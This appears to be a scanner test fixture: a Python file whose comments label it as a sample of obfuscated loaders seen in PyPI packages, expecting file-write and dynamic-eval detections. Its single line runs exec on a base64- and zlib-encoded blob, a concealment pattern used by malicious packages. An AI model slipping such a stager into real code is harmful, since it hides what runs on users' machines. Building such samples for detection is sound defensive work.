# expect: fs-write,dynamic-eval
# source: PyArmor-lite loaders seen on PyPI
# technique: exec(zlib.decompress(base64.b64decode(...))) stager
import base64, zlib

exec(zlib.decompress(base64.b64decode("eNorzyzJUMgvSM3TUNdPLUnWTy7Kz9NL0c/KT1LXUVAvV9dUSCxWSLPiUgCCNL3yosySVA11LQUYLMrPL1HITInJU9fkAgBcBRUa")))
